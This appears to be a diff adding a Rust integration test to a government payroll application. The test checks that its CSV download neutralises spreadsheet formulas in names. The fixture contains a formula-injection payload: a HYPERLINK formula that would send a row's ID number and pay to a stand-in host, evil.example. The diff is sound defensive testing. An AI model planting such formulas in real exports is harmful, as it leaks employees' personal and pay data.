@@ -18,6 +18,7 @@ use uuid::Uuid;
 crate::on_both_engines!(
     nominatif_xlsx_has_names_and_nips_as_text_and_the_sums,
     recap_pdf_lists_the_opd_and_is_signed_by_its_head,
+    nominatif_csv_neutralises_formulas_in_names,
 );
 
 const XLSX_TYPE: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
@@ -375,6 +376,55 @@ async fn nominatif_xlsx_has_names_and_nips_as_text_and_the_sums(db: crate::commo
     }
     let r = app.get("/admin/tpp/nominatif.xlsx?tahun=2026&tw=2", None).await;
     assert_eq!(r.location(), Some("/masuk"));
+    app.finish().await;
+}
+
+/// An official named like a spreadsheet formula comes out of the CSV download as text (a leading
+/// `'`, quoted), not as a live formula that would send the row's NIP and pay away (issue 14,
+/// item 7); the amounts stay plain numbers.
+async fn nominatif_csv_neutralises_formulas_in_names(db: crate::common::TestDb) {
+    use sea_orm::ActiveModelTrait;
+    let app = TestApp::with_demo(db).await;
+    let stored = store_quarter(&app).await;
+    let evil = "=HYPERLINK(\"http://evil.example/?leak=\"&B2&G2,\"Klik\")";
+    let mut renamed: official::ActiveModel = stored.dispar[0].clone().into();
+    renamed.name = Set(evil.to_string());
+    renamed.update(&app.db).await.unwrap();
+    let mut position: official::ActiveModel = stored.dispar[1].clone().into();
+    position.position_title = Set("@SUM(1+1)".to_string());
+    position.update(&app.db).await.unwrap();
+
+    let admin = app.login("admin", DEMO_PW).await;
+    let r = app.get("/admin/tpp/nominatif.csv?tahun=2026&tw=2&opd=DISPAR", Some(&admin)).await;
+    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
+    let nip = stored.dispar[0].nip.clone().unwrap();
+    let line = r.body.lines().find(|l| l.contains(&nip)).unwrap_or_else(|| panic!("{nip} in {}", r.body));
+    let cell = "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&B2&G2,\"\"Klik\"\")\"";
+    assert!(line.starts_with(&format!("{cell},{nip},")), "{line}");
+    // No cell of the file starts a formula (split at commas outside quotes).
+    for line in r.body.lines() {
+        let mut quoted = false;
+        let mut start = true;
+        for c in line.chars() {
+            if start && !quoted {
+                assert!(!matches!(c, '=' | '+' | '@'), "a live formula in {line}");
+            }
+            start = false;
+            match c {
+                '"' => quoted = !quoted,
+                ',' if !quoted => start = true,
+                _ => {}
+            }
+        }
+    }
+    let nip1 = stored.dispar[1].nip.clone().unwrap();
+    let line = r.body.lines().find(|l| l.contains(&nip1)).unwrap();
+    assert!(line.contains(&format!(",{nip1},\"'@SUM(1+1)\",")), "{line}");
+    // The amounts are still numbers: the last cell of each row parses as one.
+    let rows = nominatif(&app.db, 2026, 2, Some("DISPAR")).await.unwrap();
+    let first = rows.iter().find(|r| r.nip == nip).unwrap();
+    assert!(r.body.contains(&format!(",{}\n", first.gross)), "gross as a number");
+    assert!(r.body.lines().last().unwrap().ends_with(&format!(",{}", stored.dispar_gross)));
     app.finish().await;
 }
 
